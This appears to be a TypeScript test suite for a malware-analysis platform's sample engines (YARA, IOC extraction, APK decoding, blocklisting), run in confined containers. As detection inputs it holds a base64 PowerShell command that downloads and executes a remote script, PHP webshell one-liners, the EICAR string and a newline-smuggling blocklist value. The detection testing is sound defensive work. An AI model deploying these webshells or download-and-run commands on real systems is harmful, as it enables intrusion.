import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { pack as tarPack } from 'tar-stream';
import type { BlobStore } from '../../infra/blob-store';
import { type EngineManifest, ObservableType } from '../../core/engine-manifest';
import type { Subject } from '../../core/investigation';
import { ensureImage } from '../../scripts/lib/images';
import { fileSubject, leftovers, observableSubject, runEngineOnce, sampleManifest, tempBlobStore } from '../helpers/engines';
import { ROOT } from '../helpers/system';

/**
 * The sample engines under engines/, built from their Dockerfiles and run in real, confined
 * containers (uid 65534, read-only root, /tmp only) through Docket's runner and protocol adapters.
 */

const execFileAsync = promisify(execFile);
const SAMPLES = ['yara', 'strings-ioc', 'apktool', 'blocklist'];
const APK_BUILDER = 'docket/apk-builder:test';
const BASE_IMAGE = 'docket/base:bookworm';

let blobs: BlobStore;
const manifests: Record<string, EngineManifest> = {};

beforeAll(async () => {
  blobs = await tempBlobStore();
  for (const name of SAMPLES) manifests[name] = await sampleManifest(name);
  // Forced, so the tests run the code in the repository; Docker's layer cache keeps it quick.
  await Promise.all([
    ...SAMPLES.map((name) => ensureImage(manifests[name].image, join(ROOT, 'engines', name), { force: true })),
    ensureImage(APK_BUILDER, join(ROOT, 'test/engines/apk-builder'), { force: true }),
  ]);
}, 900_000);

let jobs = 0;
/** Runs an engine under a job id of its own, then checks that no container or volume is left. */
async function run(name: string, subject: Subject, extra: { manifest?: EngineManifest; parameters?: Record<string, unknown> } = {}) {
  const job = `sample-${name}-${process.pid}-${++jobs}`;
  const result = await runEngineOnce(extra.manifest ?? manifests[name], subject, blobs, { job, parameters: extra.parameters });
  expect(await leftovers(job)).toEqual({ containers: 0, volumes: 0 });
  return result;
}

async function resultJson(outcome: { result?: { sha256: string } }): Promise<any> {
  expect(outcome.result).toBeDefined();
  return JSON.parse((await blobs.read(outcome.result!.sha256)).toString('utf8'));
}

// Assembled at run time so this file is not itself an EICAR test file to a virus scanner.
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

function peFile(): Buffer {
  const pe = Buffer.alloc(0x200);
  pe.write('MZ', 0, 'latin1');
  pe.writeUInt32LE(0x80, 0x3c);
  pe.write('PE\0\0', 0x80, 'latin1');
  pe.writeUInt16LE(0x14c, 0x84);
  return pe;
}

const encodedPowerShell = Buffer.from('Invoke-WebRequest http://198.51.100.9/a.ps1 | iex', 'utf16le').toString('base64');

describe('yara', () => {
  it.each([
    ['the EICAR test file', EICAR + '\r\n', [['EICAR_Test_File', 'malicious']]],
    ['a PE executable', peFile(), [['PE_Executable', 'suspicious']]],
    ['an encoded PowerShell command', `cmd /c powershell.exe -NoProfile -WindowStyle Hidden -enc ${encodedPowerShell}\n`, [['PowerShell_Encoded_Command', 'suspicious']]],
    ['a PHP webshell', `<?php\n@eval(base64_decode($_POST['z']));\n?>\n`, [['PHP_Webshell_Eval', 'malicious']]],
    ['a webshell that starts with the EICAR string', `${EICAR}\n<?php system($_GET["c"]); ?>`, [['EICAR_Test_File', 'malicious'], ['PHP_Webshell_Eval', 'malicious']]],
  ])('reports one taxonomy per matched rule for %s', async (_, content, expected) => {
    const { run: container, outcome } = await run('yara', await fileSubject(blobs, content));
    expect(outcome.errorMessage).toBeUndefined();
    expect(outcome.status).toBe('success');
    expect(container.exitCode).toBe(0);
    const found = outcome.taxonomies.map((t) => [t.predicate, t.level]);
    expect(found.sort()).toEqual([...expected].sort());
    expect(outcome.taxonomies.every((t) => t.namespace === 'Yara')).toBe(true);
    const report = await resultJson(outcome);
    expect(report.full.matches.map((m: { rule: string }) => m.rule).sort()).toEqual(expected.map(([rule]) => rule).sort());
  });

  it.each([
    ['plain text', 'quarterly report: nothing to see here\n'],
    ['text that only starts with MZ', 'MZ is where a DOS header starts; no PE signature follows.\n'.repeat(4)],
    ['the EICAR string quoted deep inside a document', `${'A'.repeat(400)} ${EICAR}`],
    ['PowerShell without an encoded command', 'powershell.exe -NoProfile -File C:\\backup\\nightly.ps1\n'],
    ['PHP that evaluates a constant', `<?php echo htmlspecialchars($_GET['q']); eval('return 1;'); ?>`],
  ])('reports a single safe taxonomy for %s', async (_, content) => {
    const { outcome } = await run('yara', await fileSubject(blobs, content));
    expect(outcome.status).toBe('success');
    expect(outcome.taxonomies).toEqual([{ level: 'safe', namespace: 'Yara', predicate: 'Match', value: 'no rule matched' }]);
  });

  it('fails, with the reason, when given an observable instead of a file', async () => {
    const { outcome } = await run('yara', observableSubject('domain', 'example.com'));
    expect(outcome.status).toBe('failure');
    expect(outcome.errorMessage).toBe('yara: yara scans files, not domain observables');
  });
});

describe('strings-ioc', () => {
  const digest = (algorithm: string) => createHash(algorithm).update('docket strings-ioc sample').digest('hex');

  it('extracts refanged, deduplicated IOCs from 8-bit and UTF-16 strings and skips look-alikes', async () => {
    const ascii = [
      'beacon to hxxps://evil[.]example[.]com/gate.php?id=7 every 60s',
      'fallback 203.0.113.45:8443, then 203.0.113.45 again',
      'contact Bad.Actor@Phish.Example.org for the key',
      'System.Net.Http kernel32.dll libc.so.6 setup.py version 1.2.3.4.5',
      `md5 ${digest('md5')} sha1 ${digest('sha1')}`,
      `sha256 ${digest('sha256').toUpperCase()}`,
      'c2 update.bad-domain.net and evil[.]example[.]com once more',
    ].join('\n');
    const content = Buffer.concat([
      Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 0xff]),
      Buffer.from(ascii, 'latin1'),
      Buffer.from([0, 0, 0x90, 0x90]),
      Buffer.from('wide.example.net 198.51.100.7', 'utf16le'),
      Buffer.from([0, 0]),
    ]);
    const { outcome } = await run('strings-ioc', await fileSubject(blobs, content, 'implant.bin'));
    expect(outcome.errorMessage).toBeUndefined();
    expect(outcome.status).toBe('success');
    const found = outcome.artifacts.map((a) => `${a.type} ${a.data}`).sort();
    expect(found).toEqual([
      'domain evil.example.com',
      'domain update.bad-domain.net',
      'domain wide.example.net',
      'ip 198.51.100.7',
      'ip 203.0.113.45',
      'mail bad.actor@phish.example.org',
      `md5 ${digest('md5')}`,
      `sha1 ${digest('sha1')}`,
      `sha256 ${digest('sha256')}`,
      'url https://evil.example.com/gate.php?id=7',
    ]);
    for (const artifact of outcome.artifacts) expect(ObservableType.safeParse(artifact.type).success).toBe(true);
    expect(outcome.taxonomies).toEqual([{ level: 'info', namespace: 'StringsIOC', predicate: 'IOCs', value: '10' }]);
    const report = await resultJson(outcome);
    expect(report.full).toMatchObject({ filename: 'implant.bin', truncated: false, counts: { domain: 3, ip: 2, mail: 1, md5: 1, sha1: 1, sha256: 1, url: 1 } });
  });

  it('caps the artifacts at 500 and says there were more', async () => {
    const lines = Array.from({ length: 700 }, (_, i) => `peer 10.${i >> 8}.${i & 255}.1 seen`);
    const { outcome } = await run('strings-ioc', await fileSubject(blobs, lines.join('\n')));
    expect(outcome.status).toBe('success');
    expect(outcome.artifacts).toHaveLength(500);
    expect(new Set(outcome.artifacts.map((a) => a.data)).size).toBe(500);
    expect(outcome.artifacts[0]).toMatchObject({ type: 'ip', data: '10.0.0.1' });
    expect(outcome.taxonomies[0].value).toBe('500+');
    expect((await resultJson(outcome)).full.truncated).toBe(true);
  });

  it('reports no artifacts for a file without indicators', async () => {
    const { outcome } = await run('strings-ioc', await fileSubject(blobs, Buffer.from(randomBytes(4096).map((b) => b & 0x1f))));
    expect(outcome.status).toBe('success');
    expect(outcome.artifacts).toEqual([]);
    expect(outcome.taxonomies[0].value).toBe('0');
  });
});

/** A folder as a tar stream's bytes, for the APK builder's stdin. */
async function tarOf(files: Record<string, string>): Promise<Buffer> {
  const pack = tarPack();
  for (const [name, content] of Object.entries(files)) pack.entry({ name, mode: 0o644 }, content);
  pack.finalize();
  const chunks: Buffer[] = [];
  for await (const chunk of pack as AsyncIterable<Buffer>) chunks.push(chunk);
  return Buffer.concat(chunks);
}

/** Packages a real APK with aapt in the test-only builder image (offline, as the engines are). */
async function buildApk(files: Record<string, string>, fillerMb = 0): Promise<Buffer> {
  const input = await tarOf(files);
  const args = ['run', '--rm', '-i', '--network', 'none', '--user', '65534:65534', '--read-only', '--tmpfs', '/tmp:size=256m', APK_BUILDER];
  if (fillerMb) args.push('--filler-mb', String(fillerMb));
  const child = execFileAsync('docker', args, { encoding: 'buffer', maxBuffer: 512 * 1024 ** 2 });
  child.child.stdin!.end(input);
  const { stdout } = await child;
  expect(stdout.subarray(0, 4).toString('latin1')).toBe('PK\x03\x04');
  return stdout;
}

describe('apktool', () => {
  const packageName = `org.docket.sample${randomBytes(3).toString('hex')}`;
  const app = {
    'AndroidManifest.xml': `<?xml version="1.0" encoding="utf-8"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="${packageName}"
    android:versionCode="7" android:versionName="2.5.1">
  <uses-sdk android:minSdkVersion="21" android:targetSdkVersion="29"/>
  <uses-permission android:name="android.permission.INTERNET"/>
  <uses-permission android:name="android.permission.READ_SMS"/>
  <application android:label="@string/app_name">
    <activity android:name=".MainActivity">
      <intent-filter>
        <action android:name="android.intent.action.MAIN"/>
        <category android:name="android.intent.category.LAUNCHER"/>
      </intent-filter>
    </activity>
    <activity android:name="org.docket.shared.SettingsActivity" android:exported="false"/>
    <service android:name=".SyncService"/>
  </application>
</manifest>
`,
    'res/values/strings.xml': '<resources><string name="app_name">Docket Sample</string></resources>\n',
    'res/layout/main.xml': `<?xml version="1.0" encoding="utf-8"?>
<LinearLayout xmlns:android="http://schemas.android.com/apk/res/android"
    android:layout_width="match_parent" android:layout_height="match_parent">
  <TextView android:layout_width="wrap_content" android:layout_height="wrap_content" android:text="@string/app_name"/>
</LinearLayout>
`,
  };

  it('decodes an APK and reports its package, version, permissions and activities (Menagerie file protocol)', async () => {
    const apk = await buildApk(app);
    const { run: container, outcome } = await run('apktool', await fileSubject(blobs, apk, 'sample.apk'));
    expect(outcome.errorMessage).toBeUndefined();
    expect(outcome.status).toBe('success');
    expect(container.exitCode).toBe(0);
    expect(outcome.result?.filename).toBe('result');
    const report = await resultJson(outcome);
    expect(report).toMatchObject({
      package: packageName,
      versionName: '2.5.1',
      versionCode: '7',
      minSdkVersion: '21',
      targetSdkVersion: '29',
      permissions: ['android.permission.INTERNET', 'android.permission.READ_SMS'],
      activities: [`${packageName}.MainActivity`, 'org.docket.shared.SettingsActivity'],
      services: [`${packageName}.SyncService`],
      exported: [`${packageName}.MainActivity`],
      application: { label: 'Docket Sample', debuggable: false },
      partial: null,
      size: apk.length,
      sha256: createHash('sha256').update(apk).digest('hex'),
    });
  });

  it('decodes a large APK fully within the manifest\'s /tmp', async () => {
    const apk = await buildApk(app, 80);
    const { outcome } = await run('apktool', await fileSubject(blobs, apk, 'large.apk'));
    expect(outcome.status).toBe('success');
    const report = await resultJson(outcome);
    expect(report).toMatchObject({ package: packageName, partial: null });
  });

  it('still reports the manifest of an APK whose full decode does not fit in /tmp', async () => {
    const apk = await buildApk(app, 80);
    // A /tmp smaller than the decoded APK, as an operator might set it.
    const small = { ...manifests.apktool, limits: { ...manifests.apktool.limits, tmp: 64 * 1024 * 1024 } };
    const { outcome } = await run('apktool', await fileSubject(blobs, apk, 'large.apk'), { manifest: small });
    expect(outcome.errorMessage).toBeUndefined();
    expect(outcome.status).toBe('success');
    const report = await resultJson(outcome);
    expect(report).toMatchObject({ package: packageName, permissions: ['android.permission.INTERNET', 'android.permission.READ_SMS'] });
    expect(report.partial).toContain('did not fit in /tmp');
  });

  it('fails with a clear message for a file that is not an APK', async () => {
    const { outcome } = await run('apktool', await fileSubject(blobs, 'just some text\n', 'notes.txt'));
    expect(outcome.status).toBe('failure');
    expect(outcome.errorMessage).toContain('not an APK: the file is not a ZIP archive');
  });

  it('refuses a ZIP archive without an AndroidManifest.xml', async () => {
    // Renamed in the local headers and the central directory alike: a sound ZIP without a manifest.
    const zip = Buffer.from((await buildApk(app)).toString('latin1').split('AndroidManifest.xml').join('AndroidManifesT.xml'), 'latin1');
    const { outcome } = await run('apktool', await fileSubject(blobs, zip, 'renamed.apk'));
    expect(outcome.status).toBe('failure');
    expect(outcome.errorMessage).toContain('not an APK: the ZIP archive holds no AndroidManifest.xml');
  });

  it("fails with apktool's own reason when the manifest inside cannot be decoded", async () => {
    const apk = await buildApk(app);
    // Overwrite the manifest's (compressed) bytes in place; the ZIP directory still lists it.
    // The first mention of the name is in its local header, whose fixed part is 30 bytes long.
    const header = apk.indexOf('AndroidManifest.xml', 0, 'latin1') - 30;
    expect(apk.readUInt32LE(header)).toBe(0x04034b50);
    const data = header + 30 + apk.readUInt16LE(header + 26) + apk.readUInt16LE(header + 28);
    apk.fill(0xff, data, data + Math.min(64, apk.readUInt32LE(header + 18)));
    const { outcome } = await run('apktool', await fileSubject(blobs, apk, 'corrupt.apk'));
    expect(outcome.status).toBe('failure');
    expect(outcome.errorMessage).toMatch(/apktool could not decode the file \(exit 1\): \S+/);
  });
});

describe('blocklist', () => {
  const volume = `docket-blocklist-test-${process.pid}-${randomBytes(4).toString('hex')}`;
  let manifest: EngineManifest;

  beforeAll(() => {
    manifest = { ...manifests.blocklist, volumes: [{ name: volume, target: '/blocklist', readonly: false }] };
  });
  afterAll(async () => {
    await execFileAsync('docker', ['volume', 'rm', '--force', volume]).catch(() => undefined);
  });

  const respond = (type: 'url' | 'domain' | 'ip' | 'fqdn', data: string, parameters?: Record<string, unknown>) =>
    run('blocklist', observableSubject(type, data), { manifest, parameters });

  /** The volume as a web proxy would see it, read by a container that is not the engine. */
  async function readVolume(): Promise<{ mode: string; owner: string; lines: string[] }> {
    const { stdout } = await execFileAsync('docker', [
      'run', '--rm', '--network', 'none', '--mount', `type=volume,source=${volume},target=/blocklist,readonly`, BASE_IMAGE,
      'sh', '-c', 'stat -c %a /blocklist && stat -c %u /blocklist/blocklist.txt && cat /blocklist/blocklist.txt',
    ]);
    const [root, owner, ...lines] = stdout.split('\n');
    expect(lines.pop()).toBe('');
    return { mode: root, owner, lines };
  }

  it('appends each new entry once, honours idempotency keys, and leaves a list a proxy can read', async () => {
    const first = await respond('domain', 'Evil.Example.COM.', { idempotency_key: 'finding-1' });
    expect(first.outcome.errorMessage).toBeUndefined();
    expect(first.outcome.status).toBe('success');
    const firstReport = await resultJson(first.outcome);
    expect(firstReport).toEqual({
      success: true,
      full: { message: 'added evil.example.com to the blocklist', entry: 'evil.example.com', added: true, alreadyDone: false },
      operations: [],
    });

    // The same key again, even for another observable: a re-delivered request, so nothing happens.
    const replay = await respond('domain', 'other.example.net', { idempotency_key: 'finding-1' });
    expect(replay.outcome.status).toBe('success');
    expect((await resultJson(replay.outcome)).full).toMatchObject({ added: false, alreadyDone: true, message: expect.stringContaining('already done') });

    // A new key for an entry already listed: done, without a duplicate line.
    const again = await respond('fqdn', 'evil.example.com', { idempotency_key: 'finding-2' });
    expect((await resultJson(again.outcome)).full).toMatchObject({ added: false, alreadyDone: false, message: 'evil.example.com was already on the blocklist' });

    const url = await respond('url', 'HTTPS://Evil.Example.com/Payload.exe?id=1');
    expect((await resultJson(url.outcome)).full).toMatchObject({ added: true, entry: 'https://evil.example.com/Payload.exe?id=1' });
    const ip = await respond('ip', '203.0.113.9');
    expect((await resultJson(ip.outcome)).full.added).toBe(true);

    // The volume root takes the image's 1777 /blocklist, so uid 65534 could create the files.
    expect(await readVolume()).toEqual({
      mode: '1777',
      owner: '65534',
      lines: ['evil.example.com', 'https://evil.example.com/Payload.exe?id=1', '203.0.113.9'],
    });
  });

  it('adds an entry once when several runs race for it', async () => {
    const runs = await Promise.all(Array.from({ length: 4 }, () => respond('domain', 'race.example.org')));
    const added = await Promise.all(runs.map(async ({ outcome }) => (await resultJson(outcome)).full.added));
    expect(added.filter(Boolean)).toHaveLength(1);
    expect((await readVolume()).lines.filter((line) => line === 'race.example.org')).toHaveLength(1);
  });

  it('refuses an entry that would smuggle in a second line, and changes nothing', async () => {
    const before = (await readVolume()).lines;
    const { outcome } = await respond('domain', 'ok.example.com\nwww.bank.example');
    expect(outcome.status).toBe('failure');
    expect(outcome.errorMessage).toContain('one word without spaces or control characters');
    expect((await readVolume()).lines).toEqual(before);
  });
});
